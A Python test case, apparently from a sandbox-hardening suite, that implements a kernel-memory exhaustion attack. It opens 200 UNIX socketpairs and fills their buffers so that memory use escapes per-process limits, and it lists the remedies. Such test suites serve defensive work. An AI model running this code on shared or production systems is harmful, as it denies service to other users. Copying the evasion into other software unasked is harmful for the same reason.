# SPDX-License-Identifier: MIT
"""socket-queues.py - a memory bomb inside the kernel.

Goal: more memory than the budget.
Means: what was written to a socket and not yet read is the kernel's memory. 200 socketpairs, both
directions full, hold some 160 MiB, while the program's own size does not change. No resource limit
but the number of descriptors bounds it: hence a threshold of its own.
"""

import resource
import socket

from attack import attempting, denied, hold

PAIRS = 200
BUFFER = 212992  # the usual net.core.wmem_max; the kernel doubles what is asked for
LETTER = b"x" * 32768


def fill(end):
    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, BUFFER)
    end.setblocking(False)
    try:
        while True:
            end.send(LETTER)
    except BlockingIOError:
        pass


def run(brief):
    pairs = []
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    attempting()
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
        for _ in range(PAIRS):
            pairs.append(socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM))
            for end in pairs[-1]:
                fill(end)
    except OSError as why:
        return denied("socketpair", why)
    return hold()


ATTACK = {
    "effect": "more of the kernel's memory than the budget",
    "means": "200 socketpairs with both queues full",
    "oracle": "usage:memory",
    "threshold": 64 << 20,
    "id": "MEM-09",
    "attack_id": "T1499.001, CWE-770",
    "remedy": "RLIMIT_NOFILE; deny socketpair; a memory cgroup with kernel memory",
    "run": run,
}
